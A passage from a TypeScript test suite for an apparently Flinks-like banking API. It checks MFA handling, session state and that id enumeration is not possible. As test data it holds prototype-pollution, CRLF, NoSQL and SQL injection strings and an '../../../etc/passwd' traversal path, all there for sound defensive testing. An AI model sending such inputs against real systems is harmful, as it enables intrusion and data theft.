        payload: Buffer.alloc(100 * 1024 * 1024, 0x20),
        headers: { ...apiKey(t), "content-type": "application/json" },
      });
      expectCode(response, "PAYLOAD_TOO_LARGE");
    });

    it("a lying Content-Length → catalogued 4xx", async () => {
      const response = await t.app.inject({
        method: "POST",
        url: t.path("GetAccountsDetail"),
        payload: JSON.stringify({ RequestId: w.keep.requestId }),
        headers: { ...apiKey(t), "content-type": "application/json", "content-length": "5" },
      });
      expectCatalogued(response);
    });

    it("__proto__ and constructor keys pollute nothing", async () => {
      for (const body of [
        `{"__proto__": {"polluted": "yes"}, "RequestId": "${w.keep.requestId}"}`,
        `{"constructor": {"prototype": {"polluted": "yes"}}, "RequestId": "${w.keep.requestId}"}`,
        `{"RequestId": "${w.pending.requestId}", "SecurityResponses": {"__proto__": ["${ANSWER}"], "constructor": ["x"]}}`,
      ]) {
        for (const operation of ["Authorize", "GetAccountsDetail"]) {
          const response = await t.app.inject({
            method: "POST",
            url: t.path(operation),
            payload: body,
            headers: { ...apiKey(t), "content-type": "application/json" },
          });
          expectWellFormed(response, `${operation} ${body}`);
        }
      }
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.prototype).not.toHaveProperty("polluted");
      // A "__proto__" answer key is dropped, not taken for the pending prompt.
      const check = await t.post("Authorize", { RequestId: w.pending.requestId }, apiKey(t));
      expect(check.statusCode).toBe(203);
    });

    it('booleans: "true"/"false" strings mean true/false, anything else is refused', async () => {
      const cachedTrue = await t.authorize({ LoginId: w.keep.loginId, MostRecentCached: true });
      const cachedString = await t.authorize({ LoginId: w.keep.loginId, MostRecentCached: "true" });
      expect(cachedTrue.statusCode).toBe(200);
      expect(cachedString.statusCode).toBe(200);
      // "false" must not be taken as truthy: it starts a live refresh (a 203 challenge), not a cached read.
      const refresh = await t.authorize({ LoginId: w.keep.loginId, MostRecentCached: "false" });
      expect(refresh.statusCode).toBe(203);

      const withTransactions = await t.post("GetAccountsDetail", { RequestId: w.keep.requestId, WithTransactions: false }, apiKey(t));
      const withTransactionsString = await t.post(
        "GetAccountsDetail",
        { RequestId: w.keep.requestId, WithTransactions: "false" },
        apiKey(t),
      );
      expect(withTransactions.statusCode).toBe(200);
      expect(withTransactionsString.json().Accounts).toEqual(withTransactions.json().Accounts);
      for (const account of withTransactionsString.json().Accounts as { Transactions: unknown[] }[])
        expect(account.Transactions).toEqual([]);

      for (const value of ["yes", "no", "on", "tru", "", "null", "truee", " "]) {
        expectCode(await t.authorize({ LoginId: w.keep.loginId, MostRecentCached: value }), "INVALID_REQUEST", `MostRecentCached ${value}`);
        expectCode(
          await t.post("GetAccountsDetail", { RequestId: w.keep.requestId, WithKYC: value }, apiKey(t)),
          "INVALID_REQUEST",
          `WithKYC ${value}`,
        );
      }
      for (const value of [[], {}, ["true", "false"]]) {
        expectCode(await t.post("GetAccountsSummary", { RequestId: w.keep.requestId, WithBalance: value }, apiKey(t)), "INVALID_REQUEST");
      }
    });

    it("extra fields cannot set the LoginId, the customer or the session state", async () => {
      // A live login that names another customer's LoginId: refused, nothing of theirs touched.
      expectCode(
        await t.authorize({ ...GREATDAY, Username: "Greatday", LoginId: w.othersCard.loginId }),
        "INVALID_LOGIN",
        "live login + foreign LoginId",
      );
      expectCode(
        await t.post("Authorize", { LoginId: w.othersCard.loginId, MostRecentCached: true, CustomerId: w.other.customerId }, apiKey(t)),
        "INVALID_LOGIN",
        "cached + foreign LoginId + CustomerId",
      );

      // Own RequestId + fields naming another customer: the answer is about our own card only.
      const mine = await t.post(
        "GetAccountsDetail",
        {
          RequestId: w.keep.requestId,
          LoginId: w.othersCard.loginId,
          CustomerId: w.other.customerId,
          customer_id: w.other.customerId,
          Customer: { Id: w.other.customerId },
          Login: { Id: w.othersCard.loginId },
        },
        apiKey(t),
      );
      expect(mine.statusCode).toBe(200);
      expect(mine.json().Login.Id).toBe(w.keep.loginId);

      // Another customer's RequestId with fields naming that customer: still nonexistent.
      expectCode(
        await t.post(
          "GetAccountsDetail",
          { RequestId: w.othersCard.requestId, CustomerId: w.other.customerId, customerId: w.other.customerId },
          apiKey(t),
        ),
        "SESSION_NONEXISTENT",
      );

      // A pending session cannot be talked into "authorized" or more attempts.
      const forged = await t.post(
        "Authorize",
        {
          RequestId: w.pending.requestId,
          State: "authorized",
          state: "authorized",
          Authorized: true,
          AttemptsLeft: 1000,
          attempts_left: 1000,
          SnapshotId: randomUUID(),
          LoginId: w.keep.loginId,
          HttpStatusCode: 200,
        },
        apiKey(t),
      );
      expect(forged.statusCode).toBe(203);
      expectCode(await t.post("GetAccountsDetail", { RequestId: w.pending.requestId }, apiKey(t)), "UNAUTHORIZED_SESSION");

      // DeleteCard takes its LoginId from the path only.
      const removal = await t.app.inject({
        method: "DELETE",
        url: t.path(`DeleteCard/${randomUUID()}`),
        payload: { LoginId: w.keep.loginId },
        headers: apiKey(t),
      });
      expectCode(removal, "INVALID_LOGIN");
    });

    it("1 MB usernames, passwords, institutions and tags are refused", async () => {
      const huge = "g".repeat(1_000_000);
      for (const field of ["Username", "Password", "Institution", "Tag", "Language"]) {
        expectCode(await t.authorize({ ...GREATDAY, Username: "Greatday", [field]: huge }), "INVALID_REQUEST", field);
      }
      // Ids have no length limit of their own: a huge one is answered like any unknown id (S5).
      expectCode(await t.authorize({ LoginId: huge, MostRecentCached: true }), "INVALID_LOGIN");
      expectCode(await t.post("Authorize", { RequestId: huge }, apiKey(t)), "SESSION_NONEXISTENT");
      expectCode(await t.authorize({ ...GREATDAY, Username: `Greatday+${huge}` }), "INVALID_REQUEST");
    });

    it("CRLF in usernames gets an ordinary answer", async () => {
      expectCode(await t.authorize({ ...GREATDAY, Username: 'Greatday\r\n{"level":50,"msg":"forged"}' }), "INVALID_USERNAME");
      expectCode(await t.authorize({ ...GREATDAY, Username: "\r\n" }), "INVALID_USERNAME");
      expectCode(await t.authorize({ ...GREATDAY, Username: "Greatday", Password: "Everyday\r\nX-Injected: 1" }), "INVALID_PASSWORD");
      // A Greatday+ variant is a legitimate (odd) card name: it must be echoed exactly, not split.
      const odd = await t.authorize({ ...GREATDAY, Username: "greatday_nomfa+\r\nforged: yes" });
      expect(odd.statusCode).toBe(200);
      expect(odd.json().Login.Username).toBe("greatday_nomfa+\r\nforged: yes");
      expect(odd.headers).not.toHaveProperty("forged");
    });

    it("bodies, fields and Language values of the wrong type are refused", async () => {
      const cases: Record<string, unknown>[] = [
        { ...GREATDAY, Username: 42 },
        { ...GREATDAY, Username: "Greatday", Password: { $ne: null } },
        { ...GREATDAY, Username: "Greatday", Institution: "" },
        { ...GREATDAY, Username: "Greatday", Institution: "NoSuchBank" },
        { ...GREATDAY, Username: "Greatday", Institution: "__proto__" },
        { ...GREATDAY, Username: "Greatday", Institution: "constructor" },
        { ...GREATDAY, Username: "Greatday", Language: "xx" },
        { ...GREATDAY, Username: "Greatday", Language: 7 },
        { ...GREATDAY, Username: "Greatday", SecurityResponses: [] },
        { ...GREATDAY, Username: "Greatday", SecurityResponses: "Triangle" },
        { ...GREATDAY, Username: "", Password: "" },
        { Institution: "FlinksCapital" },
        {},
      ];
      for (const body of cases) expectCatalogued(await t.authorize(body), JSON.stringify(body).slice(0, 200));

      const detailCases: Record<string, unknown>[] = [
        { RequestId: w.keep.requestId, DaysOfTransactions: "Days9000" },
        { RequestId: w.keep.requestId, DaysOfTransactions: "__proto__" },
        { RequestId: w.keep.requestId, DateFrom: "yesterday" },
        { RequestId: w.keep.requestId, DateTo: "2026-01-01T00:00:00Z" },
        // (AccountsFilter: "all" is wrapped into ["all"] by Ajv's coerceTypes "array": 200 with no accounts.)
        { RequestId: w.keep.requestId, AccountsFilter: new Array(101).fill(randomUUID()) },
        { RequestId: w.keep.requestId, AccountsFilter: [{ Id: 1 }] },
        { RequestId: w.keep.requestId, RefreshDelta: [{}] },
        { RequestId: w.keep.requestId, RefreshDelta: [{ AccountId: 1, TransactionId: 2 }] },
        { RequestId: w.keep.requestId, RefreshDelta: "x" },
        { RequestId: w.keep.requestId, RefreshDelta: new Array(101).fill({ AccountId: "a", TransactionId: "b" }) },
      ];
      for (const body of detailCases)
        expectCatalogued(await t.post("GetAccountsDetail", body, apiKey(t)), JSON.stringify(body).slice(0, 200));
    });
  });

  it("unknown operations and methods get catalogued 404s", async () => {
    for (const [method, operation] of [
      ["GET", "Authorize"],
      ["PUT", "GetAccountsDetail"],
      ["PATCH", `DeleteCard/${randomUUID()}`],
      ["POST", `DeleteCard/${randomUUID()}`],
      ["GET", "GenerateAuthorizeToken"],
      ["POST", "GetStatements"],
      ["POST", "../../../etc/passwd"],
      ["POST", "Authorize/extra/segments"],
    ] as const) {
      const response = await t.app.inject({ method, url: t.path(operation), payload: {}, headers: apiKey(t) });
      expectCatalogued(response, `${method} ${operation}`);
    }
  });

  it("loses nothing: existing cards and sessions still work after all of the above", async () => {
    // The live session that was open all along still serves the same data.
    const again = await t.post("GetAccountsDetail", { RequestId: w.keep.requestId }, apiKey(t));
    expect(again.statusCode).toBe(200);
    expect(again.json().Accounts).toEqual(w.keepAccounts);

    // A new cached session on the card sees the same data.
    const cached = await t.authorize({ LoginId: w.keep.loginId, MostRecentCached: true });
    expect(cached.statusCode).toBe(200);
    const detail = await t.post("GetAccountsDetail", { RequestId: cached.json().RequestId }, apiKey(t));
    expect(detail.statusCode).toBe(200);
    expect(detail.json().Accounts).toEqual(w.keepAccounts);

    // A normal connect still works end to end.
    const fresh = await t.connect("Greatday+after-bad-input");
    const freshDetail = await t.post("GetAccountsDetail", { RequestId: fresh.RequestId }, apiKey(t));
    expect(freshDetail.statusCode).toBe(200);
    expect((freshDetail.json().Accounts as unknown[]).length).toBeGreaterThan(0);

    // The pending challenge can still be answered.
    const answered = await t.post("Authorize", { RequestId: w.pending.requestId, SecurityResponses: { [PROMPT]: [ANSWER] } }, apiKey(t));
    expect(answered.statusCode).toBe(200);

    // The other customer's card is intact; the deleted card stays deleted.
    const theirs = await t.app.inject({
      method: "POST",
      url: t.path("Authorize", w.other.customerId),
      payload: { LoginId: w.othersCard.loginId, MostRecentCached: true },
      headers: apiKey(t, w.other),
    });
    expect(theirs.statusCode).toBe(200);
    expectCode(await t.authorize({ LoginId: w.deleted.loginId, MostRecentCached: true }), "INVALID_LOGIN");
  });
});

// ---------------------------------------------------------------------------------------
// MFA answers
// ---------------------------------------------------------------------------------------

describe("bad MFA answers", () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ randomInt: () => 2 });
  });
  afterAll(() => t?.close());

  async function challenge(username: string): Promise<{ requestId: string; token: string }> {
    const token = await t.generateToken();
    const response = await t.post("Authorize", { ...GREATDAY, Username: username }, { "flinks-auth-key": token });
    expect(response.statusCode).toBe(203);
    return { requestId: response.json().RequestId, token };
  }

  function answer(session: { requestId: string; token: string }, responses: unknown): Promise<LightMyRequestResponse> {
    return t.post("Authorize", { RequestId: session.requestId, SecurityResponses: responses }, { "flinks-auth-key": session.token });
  }

  it("100 answers to one question, or 100 questions, are refused without using an attempt", async () => {
    const session = await challenge("Greatday+hundred");
    expectCode(await answer(session, { [PROMPT]: new Array(100).fill(ANSWER) }), "INVALID_REQUEST");
    expectCode(
      await answer(session, Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`${PROMPT} ${i}`, ANSWER]))),
      "INVALID_REQUEST",
    );
    expectCode(await answer(session, { [PROMPT]: "t".repeat(10_000) }), "INVALID_REQUEST");
    expectCode(await answer(session, { [PROMPT]: { Answer: ANSWER } }), "INVALID_REQUEST");
    expectCode(await answer(session, { [PROMPT]: [{}] }), "INVALID_REQUEST");
    // Several answers within the schema's limit reach the bank as one wrong attempt.
    expectCode(await answer(session, { [PROMPT]: new Array(10).fill(ANSWER) }), "INVALID_SECURITY_RESPONSE");
    const right = await answer(session, { [PROMPT]: [ANSWER] });
    expect(right.statusCode).toBe(200);
  });

  it("answers of the wrong type get a catalogued answer", async () => {
    // Ajv's type coercion turns 42 into "42" and null into "": these reach the bank as
    // wrong answers (and use an attempt) rather than being refused as malformed.
    const session = await challenge("Greatday+wrong-types");
    for (const value of [[42], null, 42, true, [null]]) expectCatalogued(await answer(session, { [PROMPT]: value }), JSON.stringify(value));
  });

  it.each([{ value: [[ANSWER]] }, { value: [[]] }, { value: [[null]] }, { value: [["a", "b"]] }])(
    "a nested-array answer $value → 400 INVALID_REQUEST, session kept",
    async ({ value }) => {
      const session = await challenge("Greatday+nested");
      expectCode(await answer(session, { [PROMPT]: value }), "INVALID_REQUEST", JSON.stringify(value));
      expect((await answer(session, { [PROMPT]: [ANSWER] })).statusCode).toBe(200);
    },
  );

  it("a nested-array answer on a refresh leaves the card's cached reads unharmed", async () => {
    const card = await t.connect("Greatday+nested-refresh");
    const refresh = await t.post("Authorize", { LoginId: card.Login.Id, MostRecentCached: false }, t.apiKeyHeaders());
    expect(refresh.statusCode).toBe(203);
    await t.post("Authorize", { RequestId: refresh.json().RequestId, SecurityResponses: { [PROMPT]: [[ANSWER]] } }, t.apiKeyHeaders());
    const cached = await t.post("Authorize", { LoginId: card.Login.Id, MostRecentCached: true }, t.apiKeyHeaders());
    expect(cached.statusCode).toBe(200);
  });

  it("answers to questions never asked are refused and cost no attempt", async () => {
    const session = await challenge("Greatday+unasked");
    for (let i = 0; i < t.config.sessions.mfaAttemptsPerRequest + 2; i++) {
      expectCode(await answer(session, { "What is your pet's name?": ["Rex"] }), "UNKNOWN_CHALLENGE_KEY");
      expectCode(await answer(session, { [PROMPT]: [ANSWER], "What city were you born in?": ["Montreal"] }), "UNKNOWN_CHALLENGE_KEY");
      expectCode(await answer(session, { "": [ANSWER] }), "UNKNOWN_CHALLENGE_KEY");
    }
    expect((await answer(session, { [PROMPT]: [ANSWER] })).statusCode).toBe(200);
  });

  it("replaying the answer after success → catalogued 4xx (ALREADY_AUTHORIZED)", async () => {
    const session = await challenge("Greatday+replay");
    expect((await answer(session, { [PROMPT]: [ANSWER] })).statusCode).toBe(200);
    expectCatalogued(await answer(session, { [PROMPT]: [ANSWER] }), "replay");
  });

  it("replaying the answer after success never re-runs the login or changes the card", async () => {
    const session = await challenge("Greatday+replay2");
    const first = await answer(session, { [PROMPT]: [ANSWER] });
    expect(first.statusCode).toBe(200);
    // The login's own aggregation runs after its 200: counted once it is done.
    await t.deps.runner.runUntilIdle();
    const before = snapshotCount(t);
    for (let i = 0; i < 5; i++) {
      const replay = await answer(session, { [PROMPT]: [ANSWER] });
      expectWellFormed(replay, "replay");
      if (replay.statusCode === 200) expect(replay.json().Login).toEqual(first.json().Login);
    }
    expect(snapshotCount(t)).toBe(before);
  });

  it.each([
    [
      "before any challenge (a cached session's RequestId)",
      () => t.connect("Greatday+cached-answer").then((card) => t.authorize({ LoginId: card.Login.Id, MostRecentCached: true })),
    ],
    ["to a login that never had a challenge (greatday_nomfa)", () => t.authorize({ ...GREATDAY, Username: "greatday_nomfa+answers" })],
  ] as const)("answers %s → 400 ALREADY_AUTHORIZED", async (_label, open) => {
    const opened = await open();
    expect(opened.statusCode).toBe(200);
    const response = await t.post(
      "Authorize",
      { RequestId: opened.json().RequestId, SecurityResponses: { [PROMPT]: ["Circle"] } },
      t.apiKeyHeaders(),
    );
    expectCode(response, "ALREADY_AUTHORIZED");
  });

  it("answers after the session ended on too many wrong answers → INVALID_SECURITY_RESPONSE_NO_RETRY", async () => {
    const session = await challenge("Greatday+ended");
    for (let i = 0; i < t.config.sessions.mfaAttemptsPerRequest; i++) expectCatalogued(await answer(session, { [PROMPT]: ["Circle"] }));
    for (const responses of [{ [PROMPT]: [ANSWER] }, { [PROMPT]: ["Circle"] }, { "What is your pet's name?": ["Rex"] }, {}]) {
      const late = await answer(session, responses);
      expectCatalogued(late, JSON.stringify(responses));
      if (Object.keys(responses).length > 0 && late.json().FlinksCode !== "UNKNOWN_CHALLENGE_KEY") {
        expect(late.json().FlinksCode).toBe("INVALID_SECURITY_RESPONSE_NO_RETRY");
      }
    }
    expectCode(await t.post("GetAccountsDetail", { RequestId: session.requestId }, t.apiKeyHeaders()), "UNAUTHORIZED_SESSION");
  });

  it("answers after a failed login replay the failure", async () => {
    const failed = await t.authorize({ ...GREATDAY, Username: "Greatday+fail", Password: "nope" });
    expectCode(failed, "INVALID_PASSWORD");
    expectCode(
      await t.post("Authorize", { RequestId: failed.json().RequestId, SecurityResponses: { [PROMPT]: [ANSWER] } }, t.apiKeyHeaders()),
      "INVALID_PASSWORD",
    );
  });

  it("answers after the card was deleted → SESSION_NONEXISTENT", async () => {
    const card = await t.connect("Greatday+delete-mid-mfa");
    const token = await t.generateToken();
    const refresh = await t.post("Authorize", { LoginId: card.Login.Id, MostRecentCached: false }, { "flinks-auth-key": token });
    expect(refresh.statusCode).toBe(203);
    const deleteCard = () => t.app.inject({ method: "DELETE", url: t.path(`DeleteCard/${card.Login.Id}`), headers: t.apiKeyHeaders() });
    // DeleteCard never refuses: the waiting session ends with the card.
    const removal = await deleteCard();
    expect(removal.statusCode).toBe(200);
    const late = await t.post(
      "Authorize",
      { RequestId: refresh.json().RequestId, SecurityResponses: { [PROMPT]: [ANSWER] } },
      t.apiKeyHeaders(),
    );
    expectCode(late, "SESSION_NONEXISTENT");
  });

  it("data calls while a challenge is pending → 401 UNAUTHORIZED", async () => {
    const session = await challenge("Greatday+pending-data");
    const calls: [string, () => Promise<LightMyRequestResponse>][] = [
      ["GetAccountsDetail", () => t.post("GetAccountsDetail", { RequestId: session.requestId }, t.apiKeyHeaders())],
      ["GetAccountsSummary", () => t.post("GetAccountsSummary", { RequestId: session.requestId }, t.apiKeyHeaders())],
      [
        "GetAccountsDetail (token)",
        () => t.post("GetAccountsDetail", { RequestId: session.requestId }, { "flinks-auth-key": session.token }),
      ],
      ...(["GET", "POST"] as const).flatMap((method) =>
        ["GetAccountsDetailAsync", "GetAccountsSummaryAsync"].map((operation): [string, () => Promise<LightMyRequestResponse>] => [
          `${method} ${operation}`,
          () => t.app.inject({ method, url: t.path(`${operation}/${session.requestId}`), headers: t.apiKeyHeaders() }),
        ]),
      ),
    ];
    for (const [name, call] of calls) {
      const body = expectCode(await call(), "UNAUTHORIZED_SESSION", name);
      expect(body.FlinksCode).toBe("UNAUTHORIZED");
      expect(body.HttpStatusCode).toBe(401);
    }
    // …and the pending session is unharmed.
    expect((await answer(session, { [PROMPT]: [ANSWER] })).statusCode).toBe(200);
  });

  it("answers after expiry → SESSION_EXPIRED", async () => {
    const session = await challenge("Greatday+expiring");
    t.clock.advanceSeconds(t.config.sessions.idleTtlSeconds + 1);
    expectCode(
      await t.post("Authorize", { RequestId: session.requestId, SecurityResponses: { [PROMPT]: [ANSWER] } }, t.apiKeyHeaders()),
      "SESSION_EXPIRED",
    );
    expectCode(await t.post("GetAccountsDetail", { RequestId: session.requestId }, t.apiKeyHeaders()), "SESSION_EXPIRED");
  });

  it("the same right answer 100 times at once: no 5xx, one aggregation", async () => {
    const session = await challenge("Greatday+stampede");
    const before = snapshotCount(t);
    const responses = await Promise.all(Array.from({ length: 100 }, () => answer(session, { [PROMPT]: [ANSWER] })));
    for (const response of responses) expectWellFormed(response, "stampede");
    expect(responses.filter((r) => r.statusCode === 200).length).toBeGreaterThanOrEqual(1);
    await t.deps.runner.runUntilIdle();
    expect(snapshotCount(t) - before).toBe(1);
  });

  it("the same wrong answer 100 times at once: no 5xx, never more wrong attempts than allowed", async () => {
    const session = await challenge("Greatday+wrong-stampede");
    const responses = await Promise.all(Array.from({ length: 100 }, () => answer(session, { [PROMPT]: ["Circle"] })));
    const codes = responses.map((r) => expectCatalogued(r, "wrong stampede").FlinksCode);
    expect(codes.filter((c) => c === "INVALID_SECURITY_RESPONSE").length).toBeLessThanOrEqual(t.config.sessions.mfaAttemptsPerRequest - 1);
    expectCode(await answer(session, { [PROMPT]: [ANSWER] }), "INVALID_SECURITY_RESPONSE_NO_RETRY");
  });
});

/** Rows in the raw SQLite file (read-only, alongside the app's own connection). */
function countRows(t: TestApp, sql: string): number {
  const db = new SqliteDatabase(join(t.dataDir, "bankgate.sqlite"), { readonly: true, fileMustExist: true });
  try {
    return (db.prepare(sql).get() as { n: number }).n;
  } finally {
    db.close();
  }
}

function snapshotCount(t: TestApp): number {
  return countRows(t, "SELECT COUNT(*) AS n FROM snapshots");
}

// ---------------------------------------------------------------------------------------
// S5: enumeration
// ---------------------------------------------------------------------------------------

describe("S5: unknown, deleted, other customers' and malformed ids look the same", () => {
  let w: World;
  let t: TestApp;
  beforeAll(async () => {
    w = await buildWorld();
    t = w.t;
  });
  afterAll(() => w?.t.close());

  /** Ids that must all be answered exactly like a random unknown GUID. */
  function lookalikes(kind: IdKind, inPath = false): [string, unknown][] {
    const own = kind === "requestId" ? w.keep.requestId : w.keep.loginId;
    return [
      ["unknown", randomUUID()],
      ["deleted", kind === "requestId" ? w.deleted.requestId : w.deleted.loginId],
      ["another customer's", kind === "requestId" ? w.othersCard.requestId : w.othersCard.loginId],
      ["another customer's, upper case", (kind === "requestId" ? w.othersCard.requestId : w.othersCard.loginId).toUpperCase()],
      ["malformed: not a GUID", "not-a-guid"],
      // An empty path segment is another route (/DeleteCard/ → 404 NOT_FOUND), not an id lookup.
      ...(inPath ? [] : ([["malformed: empty", ""]] as [string, unknown][])),
      ["malformed: injection", "' OR '1'='1' --"],
      ["malformed: GUID + NUL", `${own}\u0000`],
      ["malformed: GUID without dashes", own.replace(/-/g, "")],
      ["malformed: 64 characters", "f".repeat(64)],
    ];
  }

  /** Identical status and identical body, compared whole (as parsed JSON and as text). */
  async function expectAllAlike(
    kind: IdKind,
    send: (id: unknown) => Promise<LightMyRequestResponse>,
    extra: [string, unknown][] = [],
    inPath = false,
  ) {
    const cases = [...lookalikes(kind, inPath), ...extra];
    const [first, ...rest] = await Promise.all(cases.map(async ([label, id]) => ({ label, response: await send(id) })));
    if (!first) throw new Error("no cases");
    expectCatalogued(first.response, first.label);
    for (const { label, response } of rest) {
      expect(response.statusCode, `${label} vs ${first.label}`).toBe(first.response.statusCode);
      expect(response.json(), `${label} vs ${first.label}`).toEqual(first.response.json());
      expect(response.body, `${label} vs ${first.label}`).toBe(first.response.body);
    }
    return first.response;
  }

  it("DELETE /DeleteCard/{loginId}", async () => {
    const response = await expectAllAlike(
      "loginId",
      (id) => t.app.inject({ method: "DELETE", url: t.path(`DeleteCard/${encodeURIComponent(String(id))}`), headers: apiKey(t) }),
      [],
      true,
    );
    expectCode(response, "INVALID_LOGIN");
  });

  it("cached POST /Authorize {LoginId, MostRecentCached: true} (authorize token)", async () => {
    const response = await expectAllAlike("loginId", (id) => t.authorize({ LoginId: id, MostRecentCached: true }));
    expectCode(response, "INVALID_LOGIN");
    // A non-string id is a malformed request, not an id lookup: it reveals nothing about which ids exist.
    for (const id of [null, 42]) expectCode(await t.authorize({ LoginId: id, MostRecentCached: true }), "INVALID_REQUEST");
  });

  it("cached POST /Authorize {LoginId, MostRecentCached: true} (x-api-key)", async () => {
    const response = await expectAllAlike("loginId", (id) => t.post("Authorize", { LoginId: id, MostRecentCached: true }, apiKey(t)));
    expectCode(response, "INVALID_LOGIN");
  });

  it("live refresh POST /Authorize {LoginId, MostRecentCached: false}", async () => {
    const response = await expectAllAlike("loginId", (id) => t.post("Authorize", { LoginId: id, MostRecentCached: false }, apiKey(t)));
    expectCode(response, "INVALID_LOGIN");
  });

  it("POST /GetAccountsDetail {RequestId}", async () => {
    const response = await expectAllAlike("requestId", (id) => t.post("GetAccountsDetail", { RequestId: id }, apiKey(t)));
    expectCode(response, "SESSION_NONEXISTENT");
    for (const id of [null, 42]) expectCode(await t.post("GetAccountsDetail", { RequestId: id }, apiKey(t)), "INVALID_REQUEST");
  });

  it("POST /GetAccountsSummary {RequestId}", async () => {
    const response = await expectAllAlike("requestId", (id) => t.post("GetAccountsSummary", { RequestId: id }, apiKey(t)));
    expectCode(response, "SESSION_NONEXISTENT");
  });

  it("POST /Authorize {RequestId, SecurityResponses} (x-api-key)", async () => {
    const response = await expectAllAlike("requestId", (id) =>
      t.post("Authorize", { RequestId: id, SecurityResponses: { [PROMPT]: [ANSWER] } }, apiKey(t)),
    );
    expectCode(response, "SESSION_NONEXISTENT");
  });

  it.each(["GetAccountsDetailAsync", "GetAccountsSummaryAsync"])("GET and POST /%s/{requestId}", async (operation) => {
    for (const method of ["GET", "POST"] as const) {
      const response = await expectAllAlike(
        "requestId",
        (id) => t.app.inject({ method, url: t.path(`${operation}/${encodeURIComponent(String(id))}`), headers: apiKey(t) }),
        [],
        true,
      );
      expectCode(response, "SESSION_NONEXISTENT");
    }
  });

  it.each([
    ["DELETE /DeleteCard", "loginId"],
    ["cached POST /Authorize", "loginId"],
    ["POST /GetAccountsDetail", "requestId"],
  ] as const)("%s: a 65-character malformed id looks like an unknown one", async (name, kind) => {
    const long = "a".repeat(65);
    const send = (id: string) => {
      if (name === "DELETE /DeleteCard") return t.app.inject({ method: "DELETE", url: t.path(`DeleteCard/${id}`), headers: apiKey(t) });
      if (kind === "loginId") return t.post("Authorize", { LoginId: id, MostRecentCached: true }, apiKey(t));
      return t.post("GetAccountsDetail", { RequestId: id }, apiKey(t));
    };
    const unknown = await send(randomUUID());
    const malformed = await send(long);
    expect(malformed.statusCode).toBe(unknown.statusCode);
    expect(malformed.json()).toEqual(unknown.json());
  });

  it("after expiry, another customer's and deleted RequestIds still look unknown", async () => {
    t.clock.advanceSeconds(t.config.sessions.idleTtlSeconds + 1);
    const response = await expectAllAlike("requestId", (id) => t.post("GetAccountsDetail", { RequestId: id }, apiKey(t)));
    expectCode(response, "SESSION_NONEXISTENT");
    // Only this customer's own expired session says so.
    expectCode(await t.post("GetAccountsDetail", { RequestId: w.keep.requestId }, apiKey(t)), "SESSION_EXPIRED");
  });
});
